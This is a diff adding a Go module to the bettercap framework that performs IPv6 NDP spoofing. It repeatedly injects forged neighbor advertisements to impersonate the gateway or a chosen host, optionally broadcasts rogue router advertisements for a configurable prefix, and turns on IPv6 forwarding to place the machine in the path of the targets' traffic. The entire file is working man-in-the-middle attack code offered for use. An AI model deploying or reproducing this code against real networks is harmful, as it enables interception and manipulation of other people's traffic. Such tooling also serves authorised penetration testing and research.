@@ -0,0 +1,297 @@
+package modules
+
+import (
+	"fmt"
+	"net"
+	"sync"
+	"time"
+
+	"github.com/bettercap/bettercap/core"
+	"github.com/bettercap/bettercap/firewall"
+	"github.com/bettercap/bettercap/log"
+	"github.com/bettercap/bettercap/network"
+	"github.com/bettercap/bettercap/packets"
+	"github.com/bettercap/bettercap/session"
+)
+
+const (
+	ndpSpoofPeriod = 1 * time.Second
+	// router lifetime of the rogue advertisements, in seconds
+	ndpRouterLifetime = 1800
+)
+
+type NDPSpoofer struct {
+	session.SessionModule
+	addresses []net.IP
+	neighbour net.IP
+	// the real hardware address of the neighbour, to restore it
+	neighbourHW net.HardwareAddr
+	router      bool
+	advertise   bool
+	prefix      *net.IPNet
+	forwarding  bool
+	waitGroup   *sync.WaitGroup
+}
+
+func NewNDPSpoofer(s *session.Session) *NDPSpoofer {
+	p := &NDPSpoofer{
+		SessionModule: session.NewSessionModule("ndp.spoof", s),
+		addresses:     make([]net.IP, 0),
+		waitGroup:     &sync.WaitGroup{},
+	}
+
+	p.AddParam(session.NewStringParameter("ndp.spoof.targets", "", "",
+		"Comma separated list of IPv6 addresses to spoof, every node of the link if empty."))
+
+	p.AddParam(session.NewStringParameter("ndp.spoof.neighbour", "", "",
+		"IPv6 address of the neighbour to impersonate, the one of the gateway if empty."))
+
+	p.AddParam(session.NewBoolParameter("ndp.spoof.router_advertisement",
+		"false",
+		"If true, this computer is also advertised as an IPv6 router for ndp.spoof.prefix, so that the hosts route through it and configure an address from the prefix."))
+
+	p.AddParam(session.NewStringParameter("ndp.spoof.prefix",
+		"d00d::/64",
+		"",
+		"IPv6 prefix of the router advertisements, it must be a /64 for the hosts to configure an address from it."))
+
+	p.AddHandler(session.NewDangerousModuleHandler("ndp.spoof on", "",
+		"Start the NDP spoofer.",
+		func(args []string) error {
+			return p.Start()
+		}))
+
+	p.AddHandler(session.NewModuleHandler("ndp.spoof off", "",
+		"Stop the NDP spoofer.",
+		func(args []string) error {
+			return p.Stop()
+		}))
+
+	return p
+}
+
+func (p NDPSpoofer) Name() string {
+	return "ndp.spoof"
+}
+
+func (p NDPSpoofer) Description() string {
+	return "Keep spoofing the IPv6 neighbour of selected hosts with neighbor advertisements, optionally advertising this computer as a router."
+}
+
+func (p NDPSpoofer) Author() string {
+	return "Simone Margaritelli <evilsocket@protonmail.com>"
+}
+
+func (p NDPSpoofer) Dependencies() []string {
+	return []string{"mac.changer", "net.recon"}
+}
+
+func parseNDPTargets(targets string) ([]net.IP, error) {
+	addresses := make([]net.IP, 0)
+	for _, address := range core.CommaSplit(targets) {
+		ip := net.ParseIP(address)
+		if ip == nil || ip.To4() != nil {
+			return nil, fmt.Errorf("'%s' is not a valid IPv6 address.", address)
+		}
+		addresses = append(addresses, ip)
+	}
+	return addresses, nil
+}
+
+func (p *NDPSpoofer) Configure() error {
+	var err error
+	var targets string
+	var neighbour string
+	var prefix string
+
+	if err, targets = p.StringParam("ndp.spoof.targets"); err != nil {
+		return err
+	} else if err, neighbour = p.StringParam("ndp.spoof.neighbour"); err != nil {
+		return err
+	} else if err, p.advertise = p.BoolParam("ndp.spoof.router_advertisement"); err != nil {
+		return err
+	} else if err, prefix = p.StringParam("ndp.spoof.prefix"); err != nil {
+		return err
+	} else if p.addresses, err = parseNDPTargets(targets); err != nil {
+		return err
+	}
+
+	if _, p.prefix, err = net.ParseCIDR(prefix); err != nil {
+		return err
+	} else if p.prefix.IP.To4() != nil {
+		return fmt.Errorf("%s is not an IPv6 prefix.", prefix)
+	}
+
+	if err = p.setNeighbour(neighbour); err != nil {
+		return err
+	}
+
+	return p.Session.UpdateInjection()
+}
+
+// setNeighbour sets the address to impersonate and looks up its real
+// hardware address.
+func (p *NDPSpoofer) setNeighbour(neighbour string) error {
+	gateway := p.Session.Gateway
+	if neighbour == "" {
+		if gateway.IPv6 == nil {
+			return fmt.Errorf("The IPv6 address of the gateway is not known yet, run net.probe or set %s.", core.Bold("ndp.spoof.neighbour"))
+		}
+		p.neighbour = gateway.IPv6
+	} else if p.neighbour = net.ParseIP(neighbour); p.neighbour == nil || p.neighbour.To4() != nil {
+		return fmt.Errorf("'%s' is not a valid IPv6 address.", neighbour)
+	}
+
+	// the hosts would stop using the gateway as a router if told otherwise
+	p.router = p.neighbour.Equal(gateway.IPv6)
+	p.neighbourHW = nil
+	if p.router {
+		p.neighbourHW = gateway.HW
+	} else if e := p.Session.Lan.GetByIp6(p.neighbour.String()); e != nil {
+		p.neighbourHW = e.HW
+	} else if mac, err := network.NdpLookup(p.Session.Interface.Name(), p.neighbour.String(), true); err == nil {
+		p.neighbourHW, _ = net.ParseMAC(mac)
+	}
+
+	if p.neighbourHW == nil {
+		log.Warning("Could not find the hardware address of %s, the targets will not be restored.", p.neighbour)
+	}
+
+	return nil
+}
+
+// linkLocal returns the link-local address of the interface, the router
+// advertisements must come from one.
+func (p *NDPSpoofer) linkLocal() net.IP {
+	iface := p.Session.Interface
+	if iface.IPv6 != nil && iface.IPv6.IsLinkLocalUnicast() {
+		return iface.IPv6
+	}
+
+	if link, err := net.InterfaceByName(iface.Name()); err == nil {
+		if addrs, err := link.Addrs(); err == nil {
+			for _, a := range addrs {
+				if ip, _, err := net.ParseCIDR(a.String()); err == nil && ip.To4() == nil && ip.IsLinkLocalUnicast() {
+					return ip
+				}
+			}
+		}
+	}
+
+	return packets.IPv6LinkLocal(iface.HW)
+}
+
+func (p *NDPSpoofer) Start() error {
+	if err := p.Session.RequirePrivileges(p.Name(), session.CapNetRaw, session.CapNetAdmin); err != nil {
+		return err
+	} else if err := p.Session.CheckSafe(p.Name(), p.Session.Interface.Name()); err != nil {
+		return err
+	} else if err := p.Configure(); err != nil {
+		return err
+	}
+
+	iface := p.Session.Interface
+	if p.forwarding = firewall.IsIPv6ForwardingEnabled(iface); !p.forwarding {
+		log.Info("Enabling IPv6 forwarding.")
+		if err := firewall.EnableIPv6Forwarding(iface, true); err != nil {
+			return err
+		}
+	}
+
+	return p.SetRunning(true, func() {
+		p.waitGroup.Add(1)
+		defer p.waitGroup.Done()
+
+		what := fmt.Sprintf("%d targets", len(p.addresses))
+		if len(p.addresses) == 0 {
+			what = "every node of the link"
+		}
+		log.Info("NDP spoofer started, impersonating %s for %s.", p.neighbour, what)
+
+		for p.Running() {
+			if err := p.sendSpoofed(iface.HW, ndpRouterLifetime).ErrorOrNil(); err != nil {
+				log.Debug("%s", err)
+			}
+			time.Sleep(ndpSpoofPeriod)
+		}
+	})
+}
+
+// sendSpoofed tells the targets that the neighbour is at the hardware
+// address hw and advertises the rogue router for lifetime seconds.
+func (p *NDPSpoofer) sendSpoofed(hw net.HardwareAddr, lifetime uint16) *core.MultiError {
+	p.waitGroup.Add(1)
+	defer p.waitGroup.Done()
+
+	result := core.NewMultiError()
+
+	if hw != nil {
+		if len(p.addresses) == 0 {
+			err, pkt := packets.NewNDPNeighborAdvertisement(p.neighbour, hw, packets.IPv6AllNodes, packets.IPv6AllNodesMAC, p.neighbour, p.router)
+			if err == nil {
+				err = p.Session.Inject(pkt)
+			}
+			result.Add(packets.IPv6AllNodes.String(), err)
+		}
+
+		if len(p.addresses) > 0 {
+			network.NdpUpdate(p.Session.Interface.Name())
+		}
+
+		for _, ip := range p.addresses {
+			if ip.Equal(p.neighbour) {
+				continue
+			}
+
+			mac, err := network.NdpLookup(p.Session.Interface.Name(), ip.String(), false)
+			if err != nil {
+				result.Add(ip.String(), err)
+				continue
+			}
+
+			targetHW, _ := net.ParseMAC(mac)
+			err, pkt := packets.NewNDPNeighborAdvertisement(p.neighbour, hw, ip, targetHW, p.neighbour, p.router)
+			if err == nil {
+				err = p.Session.Inject(pkt)
+			}
+			result.Add(ip.String(), err)
+		}
+	}
+
+	if p.advertise {
+		err, pkt := packets.NewNDPRouterAdvertisement(p.linkLocal(), p.Session.Interface.HW, p.prefix, lifetime)
+		if err == nil {
+			err = p.Session.Inject(pkt)
+		}
+		result.Add("router advertisement", err)
+	}
+
+	return result
+}
+
+func (p *NDPSpoofer) Stop() error {
+	var restoreErr error
+
+	if err := p.SetRunning(false, func() {
+		log.Info("Waiting for NDP spoofer to stop ...")
+		// the real neighbour and no router lifetime withdraw both
+		restoreErr = p.sendSpoofed(p.neighbourHW, 0).ErrorOrNil()
+		p.waitGroup.Wait()
+
+		if !p.forwarding {
+			firewall.EnableIPv6Forwarding(p.Session.Interface, false)
+		}
+	}); err != nil {
+		return err
+	}
+
+	return restoreErr
+}
+
+// Revert restores the neighbour of the targets if the spoofer is running.
+func (p *NDPSpoofer) Revert() (bool, error) {
+	if !p.Running() {
+		return false, nil
+	}
+	return true, p.Stop()
+}